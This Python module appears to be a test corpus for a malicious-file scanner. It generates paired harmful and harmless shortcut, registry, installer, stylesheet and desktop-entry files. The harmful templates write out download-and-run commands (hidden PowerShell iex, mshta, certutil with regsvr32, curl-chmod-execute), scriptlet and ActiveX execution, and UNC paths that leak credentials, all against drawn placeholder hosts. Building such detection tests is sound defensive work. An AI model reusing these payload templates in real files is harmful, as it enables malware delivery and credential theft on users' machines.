"""Shortcuts and settings: small files that make a desktop start or fetch something."""

from __future__ import annotations

from collections.abc import Callable

from app.engine.model import Verdict
from tests.corpus.payloads import PS, SYSTEM
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File, encoded
from tests.unit.engine.test_shortcut import library, lnk, run_key, setting, xml

_POWERSHELL = f"{SYSTEM}WindowsPowerShell\\v1.0\\{PS}.exe"


def command(draw: Draw) -> str:
    """Return a command line that fetches something and starts it."""
    place = f"%TEMP%\\{draw.word()}"
    return draw.one(
        f"{PS} -nop -w hidden -c \"iex (iwr '{draw.url('ps1')}' -UseBasicParsing)\"",
        f"{PS} -ep bypass -e {encoded(f'iwr {draw.url()} -OutFile a.exe; start a.exe')}",
        f"mshta {draw.url('hta')}",
        f"cmd /c curl -s {draw.url('exe')} -o {place}.exe & start {place}.exe",
        f"rundll32 \\\\{draw.host()}@80\\{draw.word()}\\{draw.word()}.dll,#1",
        f"msiexec /q /i {draw.url('msi')}",
        f"cmd /c certutil -urlcache -f {draw.url()} {place}.dll & regsvr32 /s {place}.dll",
    )


@technique("shortcut.command", most=Verdict.RESTRICTED)
def _lnk(draw: Draw, harmful: bool) -> File:
    line = command(draw)
    if not harmful:
        return File(f"{draw.stem()}.lnk", lnk(f"C:\\Users\\{draw.word()}\\Documents\\{draw.stem()}.pdf"))
    program, _, rest = line.partition(" ")
    target = _POWERSHELL if program == PS else f"{SYSTEM}{program}.exe"
    padding = " " * draw.rng.choice((0, 0, 260))
    icon = draw.one("", f"{SYSTEM}imageres.dll", "C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe")
    return File(f"{draw.stem()}{draw.one('', '.pdf')}.lnk", lnk(target, padding + rest, icon=icon, show=7))


@technique("shortcut.file_beside_it", most=Verdict.RESTRICTED)
def _beside(draw: Draw, harmful: bool) -> File:
    inner = f"{draw.word()}\\{draw.word()}"
    line = draw.one(
        f"/c start /b {inner}.bat", f"/c {inner}.js", f"/c rundll32 {inner}.dat,{draw.word()}",
        f"/q /c \"findstr /b TVq {draw.stem()}.lnk > %tmp%\\x.js & wscript %tmp%\\x.js\"",
    )  # fmt: skip
    made = lnk(f"{SYSTEM}cmd.exe", line) if harmful else lnk("C:\\Program Files\\App\\app.exe", "--profile work")
    return File(f"{draw.stem()}.lnk", made)


def _text(name: str, ending: str, write: Callable[[Draw], str], harmless: str) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        text = write(draw)
        return File(f"{draw.stem()}.{ending}", (text if harmful else harmless).encode())

    technique(f"desktop.{name}", most=Verdict.SUSPICIOUS)(make)


def _internet(draw: Draw) -> str:
    share = f"{draw.host()}{draw.one('', '@80', '@SSL')}"
    target = draw.one(
        f"URL=file://{share}/{draw.word()}/{draw.word()}.{draw.one('exe', 'vbs', 'url', 'lnk')}",
        f"URL=https://www.example.com/\r\nIconFile=\\\\{share}\\{draw.word()}\\i.ico\r\nIconIndex=1",
        f"URL=https://www.example.com/\r\nWorkingDirectory=\\\\{share}\\{draw.word()}",
    )
    return f"[InternetShortcut]\r\nIDList=\r\n{target}\r\n"


def _explorer(draw: Draw) -> str:
    icon = f"\\\\{draw.host()}\\{draw.word()}\\x.ico"
    return f"[Shell]\r\nCommand=2\r\nIconFile={icon}\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"


def _start(draw: Draw) -> str:
    return run_key(command(draw).replace("\\", "\\\\").replace('"', '\\"'))


def _java(draw: Draw) -> str:
    jar = f'<jar href="{draw.word()}.jar" main="true"/>'
    return xml(
        f'<jnlp spec="1.0+" codebase="http://{draw.host()}/{draw.word()}"><information><title>{draw.word()}</title>'
        f"</information><security><all-permissions/></security><resources><j2se version='1.6+'/>{jar}</resources>"
        f'<application-desc main-class="{draw.word()}"/></jnlp>'
    )


def _console(draw: Draw) -> str:
    code = f"external.Document.ScopeNamespace;new ActiveXObject('WScript.Shell').Run('{command(draw)}')".replace(
        '"', ""
    )
    return xml(
        '<MMC_ConsoleFile ConsoleVersion="3.0"><BinaryStorage/><StringTables><StringTable><Strings>'
        f'<String ID="8" Refs="2">javascript:eval("{code}")</String></Strings></StringTable></StringTables>'
        f'<VisualAttributes/><Console><String Value="res://apds.dll/redirect.html?target=javascript:eval"/></Console>'
        "</MMC_ConsoleFile>".replace("&", "&amp;")
    )


def _remote_desktop(draw: Draw) -> str:
    return (
        f"full address:s:{draw.host()}\r\nprompt for "
        f"credentials:i:0\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\n"
        f"remoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||{draw.word()}\r\n"
    )


def _entry(draw: Draw) -> str:
    return (
        f"[Desktop Entry]\nType=Application\nName={draw.stem()}.pdf\nIcon=application-pdf\n"
        f'Exec=bash -c "curl -s http://{draw.host()}/{draw.word()} -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"\n'
    )


def _calendar(draw: Draw) -> str:
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Payment due\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\n"
        f"ATTACH:file://{draw.host()}/{draw.word()}/{draw.word()}.exe\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )


def _set_up(draw: Draw) -> str:
    return (
        '[version]\r\nSignature="$chicago$"\r\nAdvancedINF=2.5\r\n[DefaultInstall_SingleUser]\r\n'
        f'UnRegisterOCXs=S\r\n[S]\r\n%11%\\scrobj.dll,NI,{draw.url("sct")}\r\n[Strings]\r\nServiceName="{draw.word()}"\r\n'
    )


def _app(draw: Draw) -> str:
    url = f"https://{draw.host()}/{draw.word()}"
    return xml(
        f'<AppInstaller Uri="{url}.appinstaller" Version="1.0.0.0"><MainPackage Name="{draw.word()}" '
        f'Uri="{url}.msix" Publisher="CN={draw.word()}" Version="1.0.0.0"/></AppInstaller>'
    )


def _style(draw: Draw) -> str:
    line = command(draw).replace("&", "&amp;").replace('"', "'")
    return xml(
        '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script '
        f'implements-prefix="user" language="JScript"><![CDATA[ var r = new '
        f'ActiveXObject("WScript.Sh"+"ell").Run("{line}");'
        " ]]></ms:script></stylesheet>"
    )


_PLIST = "<plist><dict><key>URL</key><string>{}</string></dict></plist>"
_TEXTS: tuple[tuple[str, str, Callable[[Draw], str], str], ...] = (
    ("internet_shortcut", "url", _internet, "[InternetShortcut]\r\nURL=https://www.example.com/shop\r\n"),
    ("library", "library-ms", lambda d: library(f"\\\\{d.host()}@SSL\\{d.word()}"), library("knownfolder:{FDD39AD0}")),
    ("search_connector", "searchConnector-ms", lambda d: library(f"http://{d.host()}/{d.word()}/"),
     library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
    ("setting", "settingcontent-ms", lambda d: setting(command(d).replace("&", "&amp;")),
     setting("%windir%\\system32\\control.exe /name Microsoft.Sound")),
    ("registry", "reg", _start, run_key('\\"C:\\\\Program Files\\\\Backup\\\\tray.exe\\" -minimised')),
    ("java_web_start", "jnlp", _java, xml('<jnlp codebase="https://ilo.corp.local/"><resources/></jnlp>')),
    ("console", "msc", _console, xml("<MMC_ConsoleFile><StringTables/></MMC_ConsoleFile>")),
    ("remote_desktop", "rdp", _remote_desktop, "full address:s:ts7.corp.local\r\nredirectprinters:i:1\r\n"),
    ("linux_entry", "desktop", _entry, "[Desktop Entry]\nType=Application\nName=Notes\nExec=gedit %U\n"),
    ("calendar", "ics", _calendar, "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\n"),
    ("set_up", "inf", _set_up, '[Version]\r\nSignature="$WINDOWS NT$"\r\nClass=Printer\r\n'),
    ("app_installer", "appinstaller", _app, xml('<AppInstaller Uri="https://apps.corp.local/a.appinstaller"/>')),
    ("style_sheet", "xsl", _style, xml('<xsl:stylesheet><xsl:template match="/"><p/></xsl:template></xsl:stylesheet>')),
    ("theme", "theme", lambda d: f"[Control Panel\\Desktop]\r\nWallpaper=\\\\{d.host()}\\{d.word()}\\w.jpg\r\n",
     "[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\wallpaper\\a.jpg\r\n"),
    ("web_location", "webloc", lambda d: xml(_PLIST.format(f"smb://{d.host()}/{d.word()}/a.app")),
     xml(_PLIST.format("https://www.example.com/"))),
    ("playlist", "m3u", lambda d: f"#EXTM3U\r\n\\\\{d.host()}\\{d.word()}\\a.mp3\r\n", "#EXTM3U\r\nMusic\\a.mp3\r\n"),
)  # fmt: skip
for _name, _ending, _write, _harmless in _TEXTS:
    _text(_name, _ending, _write, _harmless)


@technique("desktop.explorer_command", most=Verdict.RESTRICTED)
def _scf(draw: Draw, harmful: bool) -> File:
    text = _explorer(draw) if harmful else "[Shell]\r\nCommand=2\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
    return File(f"{draw.one('@', '', '~')}{draw.stem()}.scf", text.encode())
